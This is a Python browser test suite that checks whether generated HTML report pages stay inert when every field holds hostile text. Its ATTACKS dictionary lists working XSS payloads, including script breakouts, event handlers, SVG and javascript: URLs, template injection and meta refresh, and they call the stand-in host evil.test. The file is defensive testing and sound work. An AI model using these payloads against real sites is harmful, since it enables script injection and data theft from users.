"""What a model or a server may have written, through every field, into a real browser: nothing acts."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from stresstest.render.html import compared_html, index_html, run_html
from tests.browser.pages import BUILD, thresholds
from tests.support.reported_runs import dossier, healthy, looping, lost

if TYPE_CHECKING:
    from selenium.webdriver import Chrome

pytestmark = pytest.mark.chromium

DEED = "window.acted=1;fetch('http://evil.test/f')"
JUMP = "<meta http-equiv=refresh content='0;url=http://evil.test/r'>"
ATTACKS = {
    "script": f"<script>{DEED}</script>",
    "closing": f"</script></style></title></textarea><script>{DEED}</script>",
    "comment": f"<!--<script>{DEED}//--><script>{DEED}</script>",
    "handlers": f'"\'><img src=x onerror="{DEED}"><body onload={DEED}><details open ontoggle={DEED}>',
    "attributes": f"\" autofocus onfocus=\"{DEED}\" x=\"' autofocus onfocus='{DEED}' y='",
    "svg": f"<svg onload=\"{DEED}\"><script href='data:text/javascript,{DEED}'/></svg>",
    "use": "<svg><use href='http://evil.test/u#x'/><image href='http://evil.test/i'/></svg>",
    "animate": f"<svg><a><animate attributeName=href values='javascript:{DEED}'/><text>x</text></a></svg>",
    "templates": f"{{{{7*7}}}}{{% for x in y %}}{{{{constructor.constructor('{DEED}')()}}}}${{{DEED}}}",
    "links": f"<a href='javascript:{DEED}'>x</a><base href='http://evil.test/'><a id=data name=data>",
    "fetching": "<img src=http://evil.test/i><link rel=stylesheet href=http://evil.test/c>",
    "frames": "<iframe src=http://evil.test/></iframe><object data=http://evil.test/><embed src=http://evil.test/>",
    "refresh": f"{JUMP}<form action=http://evil.test/><input autofocus>",
    "style": "</style><style>*{background:url(http://evil.test/b)}body{display:none}</style>",
    "prototype": f'{{"__proto__":{{"acted":1}}}}","parts":[["<img src=x onerror={DEED}>","x"]],"x":"',
    "bidi": "safe \u202eetirw ot\u202c \u2066\u2067\u2068x\u2069 \u200b\ufeff\u2028\u2029 \x00\x1b[2J \ud800",
    "long": "<b>" + "A" * 100_000 + f"<script>{DEED}</script>",
    "long line of tags": "<i>" * 33_000,
}
FOREIGN = "img,iframe,base,link,form,object,embed,animate,input,a:not([href^='#'])"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"


def attacked(text: str) -> dict[str, str]:
    """The three kinds of pages with this text in every field."""
    few = (
        healthy(0, 60, text=text),
        looping(1, 40, 80, text=text, period=6),
        lost(2, 30, text),
        looping(3, 45, 90, text=text, period=6),
    )
    every = dossier(text, generations=few)
    rows = thresholds(text)
    return {
        "run": run_html(every),
        "compared": compared_html([every, every]),
        "index": index_html(rows, text),
    }


def looked_through(driver: Chrome) -> dict[str, Any]:
    """Open every generation and every depth as a reader would, then say what has happened to the page."""
    found: dict[str, Any] = driver.execute_script(
        """
        document.querySelectorAll(".row").forEach((row) => row.click());
        document.getElementById("reader")?.close();
        const which = document.getElementById("which");
        [...(which ? which.options : [])].forEach((option) => {
          which.value = option.value;
          which.dispatchEvent(new Event("change"));
        });
        document.querySelectorAll("details").forEach((d) => (d.open = true));
        const over = () => new MouseEvent("mouseover", { bubbles: true });
        document.querySelectorAll("[title],[aria-label]").forEach((e) => e.dispatchEvent(over()));
        return {
          acted: window.acted ?? Object.prototype.acted ?? null,
          scripts: document.scripts.length,
          foreign: document.querySelectorAll(arguments[0]).length,
          handlers: [...document.querySelectorAll("*")].filter((e) =>
            [...e.attributes].some((a) => a.name.startsWith("on"))).length,
          text: document.documentElement.textContent,
          address: location.protocol,
        };
        """,
        FOREIGN,
    )  # fmt: skip
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_executes_and_no_request_leaves(driver: Chrome, attack: str) -> None:
    """Names, prompts, texts, evidence, errors, notes, versions, documents: all of them this text."""
    from tests.browser.chromium import complaints, requests, show

    for kind, html in attacked(ATTACKS[attack]).items():
        page = BUILD / "hostile" / f"{attack.replace(' ', '-')}-{kind}.html"
        page.parent.mkdir(parents=True, exist_ok=True)
        page.write_text(html, encoding="utf-8")
        show(driver, page, 360)
        found = looked_through(driver)
        shown = found.pop("text")
        assert found == {"acted": None, "scripts": 5, "foreign": 0, "handlers": 0, "address": "file:"}, kind
        assert not set(BIDI) & set(shown)
        assert driver.execute_script("return document.documentElement.scrollWidth <= innerWidth"), kind
        assert requests(driver, page) == []
        assert complaints(driver) == []


def test_the_alarms_of_these_tests_work(driver: Chrome, tmp_path: Path) -> None:
    """A page that does give in is noticed: by what it did, by what it asked for, by what the console said."""
    from tests.browser.chromium import complaints, requests, show

    page = tmp_path / "weak.html"
    page.write_text(f"<p>x</p><img src=http://evil.test/i><script>{DEED}</script>", encoding="utf-8")
    show(driver, page)
    assert driver.execute_script("return window.acted") == 1
    asked = requests(driver, page)
    assert "http://evil.test/i" in asked
    assert "http://evil.test/f" in asked
    assert complaints(driver)


def test_the_policy_holds_where_escaping_would_not(driver: Chrome, tmp_path: Path) -> None:
    """The second wall: markup that got into the page all the same may neither act nor fetch."""
    from tests.browser.chromium import complaints, requests, show

    html = run_html(dossier())
    hole = f"<script>{DEED}</script><img src=http://evil.test/i><style>body{{color:red}}</style>"
    page = tmp_path / "hole.html"
    page.write_text(html.replace("<h1", f"{hole}<h1", 1), encoding="utf-8")
    show(driver, page)
    assert driver.execute_script("return window.acted ?? null") is None
    assert driver.execute_script("return getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
    assert requests(driver, page) == []
    assert any("Content Security Policy" in said for said in complaints(driver))
